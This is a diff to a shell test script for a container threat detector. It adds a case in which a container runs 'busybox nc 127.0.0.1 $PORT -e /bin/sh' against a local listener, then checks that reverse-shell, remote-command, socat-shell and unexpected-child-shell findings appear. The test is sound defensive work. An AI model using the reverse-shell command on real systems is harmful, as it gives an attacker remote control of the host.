@@ -4,7 +4,9 @@
 # runc containers: compiler, remote file copy, steganography, credential,
 # Google Cloud credential and GPG key searches, the two sudo CVEs, bulk
 # wiping, destructive command lines, netcat running a program, fileless
-# execution from a memfd and from /dev/shm; and exceptions by container name. The programs are harmless stand-ins under the
+# execution from a memfd and from /dev/shm; a reverse shell, commands run over
+# it, a shell under socat and one under a web server (Unexpected Child Shell);
+# and exceptions by container name. The programs are harmless stand-ins under the
 # tools' names (busybox's applets where it has them): only the name and the
 # arguments decide, as in the reference's definitions.
 source "$(dirname "$0")/lib.sh"
@@ -66,6 +68,44 @@ f=$(wait_finding "$OUT" '.category == "Execution: Fileless Execution in /memfd:"
 check "Fileless Execution in /memfd: (HIGH, $(jq -r .processes[0].binary.path <<<"${f:-null}"))" jqt '.severity == "HIGH" and (.processes[0].binary.path | startswith("/memfd:"))' <<<"${f:-null}"
 check "a program run from /tmp is no fileless finding" \
 	test -z "$(jq -c 'select(.processes[0].binary.path == "/tmp/plain")' "$OUT")"
+
+# shells and commands on network sockets, shells under servers and socat: a
+# container on the host's network connects to a listener on 127.0.0.1 that
+# sends it commands (busybox nc -e hands the shell the socket as stdio)
+check "a container on the host's network" start_container cw-det-net "" '{}' \
+	'.linux.namespaces |= map(select(.type != "network"))'
+N=$LIVE_DIR/bundles/cw-det-net/rootfs
+cc -O2 -static -o "$N/opt/nginx" "$LIVE_ROOT/tests/live/spawn.c" || not_ok "build spawn"
+cp "$N/opt/nginx" "$N/opt/socat"
+cp "$N/opt/nginx" "$N/opt/myapp"
+PORT=$((20000 + RANDOM % 20000))
+timeout 20 python3 -c '
+import socket, sys
+s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(1)
+c, _ = s.accept(); c.sendall(b"/opt/harmless remote-cmd\nexit\n"); c.recv(4096); c.close()' "$PORT" &
+LPID=$!
+sleep 0.3
+# benign: a shell on a pipe, a shell under a program not on the list, a
+# command whose stdout is a pipe
+run 'echo true | sh; /opt/myapp /bin/sh -c true; ls / | cat >/dev/null' cw-det-net
+run "busybox nc 127.0.0.1 $PORT -e /bin/sh" cw-det-net
+wait "$LPID"
+f=$(wait_finding "$OUT" '.category == "Reverse Shell"')
+check "Reverse Shell (CRITICAL): sh with stdin on a socket to 127.0.0.1:$PORT" \
+	jqt --argjson p "$PORT" '.severity == "CRITICAL" and .moduleName == "REVERSE_SHELL" and .sourceProperties.Reverse_Shell_Stdin_Redirection_Dst_Ip == "127.0.0.1" and .sourceProperties.Reverse_Shell_Stdin_Redirection_Dst_Port == $p and .sourceProperties.Container_Id == "cw-det-net"' <<<"${f:-null}"
+f=$(wait_finding "$OUT" '.category == "Execution: Possible Remote Command Execution Detected"')
+check "Possible Remote Command Execution (MEDIUM): a command run over the socket" \
+	jqt '.severity == "MEDIUM" and (.processes[0].args | index("remote-cmd")) and .sourceProperties.Rule_Id == "technique.remote_command.socket_stdio"' <<<"${f:-null}"
+run '/opt/socat /bin/sh -c true; /opt/nginx /bin/sh -c "echo x"' cw-det-net
+f=$(wait_finding "$OUT" '.category == "Execution: Socat Reverse Shell Detected"')
+check "Socat Reverse Shell (MEDIUM): a shell under socat" \
+	jqt '.severity == "MEDIUM" and .moduleName == "SOCAT_REVERSE_SHELL_DETECTED"' <<<"${f:-null}"
+f=$(wait_finding "$OUT" '.category == "Unexpected Child Shell"')
+check "Unexpected Child Shell (CRITICAL): a shell under nginx" \
+	jqt '.severity == "CRITICAL" and .moduleName == "UNEXPECTED_CHILD_SHELL" and (.processes[0].args | index("echo x"))' <<<"${f:-null}"
+check "a shell on a pipe, under another program, and piped commands give no finding" \
+	test "$(jq -s '[.[] | select(.sourceProperties.Container_Id == "cw-det-net" and (.category | test("Shell|Remote Command")))] | length' "$OUT")" = 4
 
 # the exception: a compiler in the build container is excepted, elsewhere not
 run '/opt/gcc -c build.c' cw-det-build
